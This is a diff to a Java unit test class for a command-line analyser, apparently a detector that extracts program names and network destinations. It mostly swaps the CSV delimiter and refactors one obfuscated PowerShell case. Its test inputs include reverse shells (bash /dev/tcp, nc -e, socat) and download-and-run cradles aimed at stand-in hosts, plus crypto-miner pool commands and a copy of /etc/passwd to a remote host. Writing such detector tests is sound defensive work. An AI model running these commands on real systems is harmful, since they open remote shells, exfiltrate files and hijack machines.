@@ -17,28 +17,28 @@ class CommandLineTest {
 
     @ParameterizedTest
     @CsvSource(
-            delimiter = '|',
+            delimiterString = " => ",
             quoteCharacter = '~',
             value = {
-                "/usr/bin/curl -s http://a.example | curl",
-                "C:\\Windows\\System32\\cmd.exe /c \"curl.exe http://a.example & whoami\" | cmd curl whoami",
-                "sh -c 'cd /tmp && wget http://a.example/x; chmod +x x' | sh wget chmod",
-                "sudo -u nobody env -i A=b nohup setsid timeout -k 1 5 busybox wget x | wget",
-                "X=1 Y=2 nice -n 5 xmrig -o pool.example:3333 | xmrig",
-                "bash -lc \"echo $(hostname) `id -u`\" | bash hostname id echo",
-                "sh -c 'if which curl; then curl x; else wget x; fi' | sh which curl wget",
-                "sh -c '(curl x || wget x) & { python3 -V; }' | sh curl wget python3",
-                "find . | find",
-                "sh -c 'c\\url x; w'g'et y; \"na\"\"no\" z' | sh curl wg",
-                "sh -c \"c'u'rl x; w\\\\get y\" | sh curl wget",
-                "sh -c 'echo a | xargs -n 1 -I{} curl {}' | sh echo curl",
-                "sh -c 'f=curl; $f http://a.example' | sh curl",
-                "sh -c 'curl${IFS}http://a.example' | sh curl",
-                "busybox | busybox",
-                "su - app -c 'curl x' | su curl",
-                "eval 'curl x' | curl",
-                "sh -c 'for i in 1 2; do curl $i; done' | sh curl",
-                "sh -c 'f() { curl x; }; f' | sh curl f",
+                "/usr/bin/curl -s http://a.example => curl",
+                "C:\\Windows\\System32\\cmd.exe /c \"curl.exe http://a.example & whoami\" => cmd curl whoami",
+                "sh -c 'cd /tmp && wget http://a.example/x; chmod +x x' => sh wget chmod",
+                "sudo -u nobody env -i A=b nohup setsid timeout -k 1 5 busybox wget x => wget",
+                "X=1 Y=2 nice -n 5 xmrig -o pool.example:3333 => xmrig",
+                "bash -lc \"echo $(hostname) `id -u`\" => bash hostname id echo",
+                "sh -c 'if which curl; then curl x; else wget x; fi' => sh which curl wget",
+                "sh -c '(curl x || wget x) & { python3 -V; }' => sh curl wget python3",
+                "find . => find",
+                "sh -c 'c\\url x; w'g'et y; \"na\"\"no\" z' => sh curl wget nano",
+                "sh -c \"c'u'rl x; w\\\\get y\" => sh curl wget",
+                "sh -c 'echo a | xargs -n 1 -I{} curl {}' => sh echo curl",
+                "sh -c 'f=curl; $f http://a.example' => sh curl",
+                "sh -c 'curl${IFS}http://a.example' => sh curl",
+                "busybox => busybox",
+                "su - app -c 'curl x' => su curl",
+                "eval 'curl x' => curl",
+                "sh -c 'for i in 1 2; do curl $i; done' => sh curl",
+                "sh -c 'f() { curl x; }; f' => sh curl f",
             })
     void allProgramsAreNamed(String line, String programs) {
         assertThat(typed(line).programs()).containsAll(List.of(programs.split(" ")));
@@ -58,49 +58,49 @@ class CommandLineTest {
 
     @ParameterizedTest
     @CsvSource(
-            delimiter = '|',
+            delimiterString = " => ",
             quoteCharacter = '~',
             value = {
-                "curl -fsSL https://get.example.com/install.sh | get.example.com:0",
-                "curl -o /tmp/x 203.0.113.7/x | 203.0.113.7:0",
-                "curl --max-time 5 -H 'Host: a.example' -x proxy.example:8080 b.example:81/p | b.example:81 proxy.example:8080",
-                "curl http://user:p@ss@evil.example:8443/?u=http://b.example | evil.example:8443 b.example:0",
-                "curl http://good.example#@evil.example/ | good.example:0",
-                "curl http://[2001:DB8:0:0::1]:8080/x | 2001:db8::1:8080",
-                "curl http://[::ffff:203.0.113.9]/ | 203.0.113.9:0",
-                "curl http://3405803786/ | 203.0.113.10:0",
-                "curl http://0xcb.0x00.0x71.0x0a/ | 203.0.113.10:0",
-                "curl http://0313.0.0161.012/ | 203.0.113.10:0",
-                "curl http://203.113/ | 203.0.0.113:0",
-                "curl http://%65vil.ex%61mple/ | evil.example:0",
-                "curl HTTP://EVIL.Example./ | evil.example:0",
-                "curl http://evil.example:99999/ | ",
-                "curl http://localhost:8080 http://127.0.0.1/ http://127.1 http://[::1]/ http://0.0.0.0/ http://2130706433/ | ",
-                "curl --unix-socket /var/run/docker.sock http://localhost/v1 | ",
-                "wget -qO- evil.example/x.sh | evil.example:0",
-                "wget -T 20 --tries 3 http://203.0.113.7/x -O /tmp/x | 203.0.113.7:0",
-                "sh -c \"curl 'http://ev'il.exam\\\\ple/\" | evil.example:0",
-                "bash -c 'bash -i >& /dev/tcp/203.0.113.8/4444 0>&1' | 203.0.113.8:4444",
-                "bash -c 'exec 3<>/dev/udp/c2.example/53' | c2.example:53",
-                "nc -w 5 -e /bin/sh c2.example 4444 | c2.example:4444",
-                "nc -lvnp 4444 | ",
-                "telnet 203.0.113.8 25 | 203.0.113.8:25",
-                "socat EXEC:'bash -li',pty TCP:203.0.113.8:4444 | 203.0.113.8:4444",
-                "socat TCP-LISTEN:80,fork TCP4:10.0.0.5:8080 | 10.0.0.5:8080",
-                "ssh -i key -p 2222 root@c2.example uptime | c2.example:2222",
-                "scp /etc/passwd bob@203.0.113.8:/tmp | 203.0.113.8:0",
-                "rsync -av src/ backup.example:/data | backup.example:0",
-                "xmrig -o pool.example:3333 -u wallet -p x | pool.example:3333",
-                "xmrig --url=stratum+ssl://pool.example:443 | pool.example:443",
-                "miner -P stratum1+tcp://0xwallet.rig@pool.example:4444 | pool.example:4444",
-                "miner --url=pool:3333 | pool:3333",
-                "python3 -c \"import urllib.request as u; u.urlopen('http://a.example:81/x')\" | a.example:81",
-                "sh -c 'U=http://a.example; curl $U/x' | a.example:0",
-                "redis-cli -h 10.1.2.3 | 10.1.2.3:0",
-                "python app.py 12:30 v1.2.3 file.py:12 -Dx=a:b | ",
-                "docker run registry.example:5000/app | ",
-                "ls -la /tmp | ",
-                "cat file:///etc/passwd | ",
+                "curl -fsSL https://get.example.com/install.sh => get.example.com:0",
+                "curl -o /tmp/x 203.0.113.7/x => 203.0.113.7:0",
+                "curl --max-time 5 -H 'Host: a.example' -x proxy.example:8080 b.example:81/p => b.example:81 proxy.example:8080",
+                "curl http://user:p@ss@evil.example:8443/?u=http://b.example => evil.example:8443 b.example:0",
+                "curl http://good.example#@evil.example/ => good.example:0",
+                "curl http://[2001:DB8:0:0::1]:8080/x => 2001:db8::1:8080",
+                "curl http://[::ffff:203.0.113.9]/ => 203.0.113.9:0",
+                "curl http://3405803786/ => 203.0.113.10:0",
+                "curl http://0xcb.0x00.0x71.0x0a/ => 203.0.113.10:0",
+                "curl http://0313.0.0161.012/ => 203.0.113.10:0",
+                "curl http://203.113/ => 203.0.0.113:0",
+                "curl http://%65vil.ex%61mple/ => evil.example:0",
+                "curl HTTP://EVIL.Example./ => evil.example:0",
+                "curl http://evil.example:99999/ => ",
+                "curl http://localhost:8080 http://127.0.0.1/ http://127.1 http://[::1]/ http://0.0.0.0/ http://2130706433/ => ",
+                "curl --unix-socket /var/run/docker.sock http://localhost/v1 => ",
+                "wget -qO- evil.example/x.sh => evil.example:0",
+                "wget -T 20 --tries 3 http://203.0.113.7/x -O /tmp/x => 203.0.113.7:0",
+                "sh -c \"curl 'http://ev'il.exam\\\\ple/\" => evil.example:0",
+                "bash -c 'bash -i >& /dev/tcp/203.0.113.8/4444 0>&1' => 203.0.113.8:4444",
+                "bash -c 'exec 3<>/dev/udp/c2.example/53' => c2.example:53",
+                "nc -w 5 -e /bin/sh c2.example 4444 => c2.example:4444",
+                "nc -lvnp 4444 => ",
+                "telnet 203.0.113.8 25 => 203.0.113.8:25",
+                "socat EXEC:'bash -li',pty TCP:203.0.113.8:4444 => 203.0.113.8:4444",
+                "socat TCP-LISTEN:80,fork TCP4:10.0.0.5:8080 => 10.0.0.5:8080",
+                "ssh -i key -p 2222 root@c2.example uptime => c2.example:2222",
+                "scp /etc/passwd bob@203.0.113.8:/tmp => 203.0.113.8:0",
+                "rsync -av src/ backup.example:/data => backup.example:0",
+                "xmrig -o pool.example:3333 -u wallet -p x => pool.example:3333",
+                "xmrig --url=stratum+ssl://pool.example:443 => pool.example:443",
+                "miner -P stratum1+tcp://0xwallet.rig@pool.example:4444 => pool.example:4444",
+                "miner --url=pool:3333 => pool:3333",
+                "python3 -c \"import urllib.request as u; u.urlopen('http://a.example:81/x')\" => a.example:81",
+                "sh -c 'U=http://a.example; curl $U/x' => a.example:0",
+                "redis-cli -h 10.1.2.3 => 10.1.2.3:0",
+                "python app.py 12:30 v1.2.3 file.py:12 -Dx=a:b => ",
+                "docker run registry.example:5000/app => ",
+                "ls -la /tmp => ",
+                "cat file:///etc/passwd => ",
             })
     void destinationsAreNamed(String line, String destinations) {
         var expected = destinations == null ? List.of() : List.of(destinations.split(" "));
@@ -145,7 +145,6 @@ class CommandLineTest {
                 "perl -MMIME::Base64 -e 'eval(decode_base64(\"cHJpbnQ\"))'",
                 "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example')\"",
                 "powershell iwr http://a.example -UseBasicParsing ^| iex",
-                "pwsh -Command \"I`EX(i`wr http://a.example)\"",
             })
     void outputRunAsAProgramIsFound(String line) {
         assertThat(typed(line).pipesIntoInterpreter()).isTrue();
@@ -188,6 +187,18 @@ class CommandLineTest {
             assertThat(command.pipesIntoInterpreter()).isTrue();
             assertThat(command.destinations()).containsExactly(new Destination("", 8080, Set.of("c2.example")));
         }
+    }
+
+    @Test
+    void powerShellsDisguisesAreTakenOff() {
+        var command = CommandLine.of(
+                "",
+                List.of(
+                        "pwsh",
+                        "-Command",
+                        "I`EX((New-Object Ne't.Web'+'Client).Down`loadString('http://a'+'.example'))"));
+        assertThat(command.pipesIntoInterpreter()).isTrue();
+        assertThat(command.destinations()).containsExactly(new Destination("", 0, Set.of("a.example")));
     }
 
     @ParameterizedTest
